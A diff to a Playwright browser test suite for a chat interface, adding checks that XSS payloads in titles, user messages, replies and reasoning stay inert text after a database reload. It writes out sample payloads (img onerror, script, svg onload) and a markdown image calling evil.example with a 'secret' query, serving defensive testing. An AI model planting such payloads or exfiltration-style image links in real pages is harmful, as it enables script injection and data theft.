@@ -13,7 +13,8 @@ import pytest
 from playwright.sync_api import expect
 
 from r1serve.engine.fake import FakeReply
-from support.browser import ChatPage
+from support import history
+from support.browser import ChatPage, UiServer
 
 pytestmark = pytest.mark.browser
 
@@ -62,7 +63,8 @@ CHUNKINGS = {
 def test_streamed_payloads_run_nothing(chat: ChatPage, chunking: str) -> None:
     chat.server.replies.set(CHUNKINGS[chunking]())
     chat.send("Show me some HTML")
-    chat.wait_idle()
+    # One token per character is ~2,800 events: on a busy 2-core machine that takes a while.
+    chat.wait_idle(timeout_ms=60_000)
     page = chat.page
     page.wait_for_timeout(300)  # give anything that was going to fire (onerror, onload) time
 
@@ -136,7 +138,7 @@ def test_sanitizer_alone_neutralizes_raw_html(open_chat: Callable[..., ChatPage]
 
 
 def test_payloads_typed_by_the_user_are_shown_as_text(chat: ChatPage) -> None:
-    # Case 20: the same payloads in the user's own message.
+    # Case 20: the same payloads in the user's own message, which also makes the title.
     chat.server.replies.set(FakeReply("ok"))
     chat.page.locator(".composer-input").fill(DOCUMENT)
     chat.page.locator(".composer-input").press("Enter")
@@ -144,4 +146,43 @@ def test_payloads_typed_by_the_user_are_shown_as_text(chat: ChatPage) -> None:
     chat.page.wait_for_timeout(300)
     expect(chat.page.locator(".message.user .user-text")).to_have_text(DOCUMENT)
     assert chat.page.locator(".message.user .user-text *").count() == 0
-    assert chat.chat_requests[0]["messages"][-1]["content"] == DOCUMENT
+    assert chat.requests_to("POST", "/messages")[0][3]["content"] == DOCUMENT
+    title = chat.page.locator(".conversation-item .conversation-title")
+    expect(title).to_contain_text("<script>window.__pwned")
+    assert title.locator("*").count() == 0
+
+
+TITLE_PAYLOAD = (
+    "<img src=x onerror=\"window.__pwned = 'title'\"><script>window.__pwned = 'title2'</script>"
+    "![](https://evil.example/?q=secret)"
+)
+
+
+def test_stored_payloads_run_nothing_after_reload(
+    ui_server: UiServer, open_chat: Callable[..., ChatPage]
+) -> None:
+    # Cases 19 and 20 once more, read back from the database: a payload title, payload user
+    # text, a payload reply with payload reasoning, and a title made from a payload message.
+    named = history.create(ui_server, title=TITLE_PAYLOAD)
+    ui_server.replies.set(FakeReply(REPLY))
+    history.send(ui_server, named["id"], DOCUMENT)
+    untitled = history.create(ui_server)
+    ui_server.replies.set(FakeReply("ok"))
+    history.send(ui_server, untitled["id"], "<svg onload=\"window.__pwned = 'auto'\">hi</svg>")
+
+    chat = open_chat(f"/#/c/{named['id']}")
+    page = chat.page
+    answer = page.locator(".message.assistant .answer")
+    expect(answer).to_contain_text("<script>window.__pwned = 'script'")
+    expect(page.locator(".message.user .user-text")).to_have_text(DOCUMENT)
+    expect(page.locator(".conversation-heading")).to_have_text(TITLE_PAYLOAD)
+    titles = page.locator(".conversation-item .conversation-title")
+    expect(titles).to_have_text(["<svg onload=\"window.__pwned = 'auto'\">hi</svg>", TITLE_PAYLOAD])
+    expect(answer.locator("img.blocked-image[alt=tracker]")).to_have_count(1)
+    page.locator(".thinking summary").click()
+    expect(page.locator(".thinking-body")).to_contain_text("<iframe srcdoc=")
+    page.wait_for_timeout(300)
+
+    chat.assert_nothing_unsafe_happened()
+    assert chat.unsafe_now() == []
+    assert page.locator(".conversation-title *, .conversation-heading *, .user-text *").count() == 0
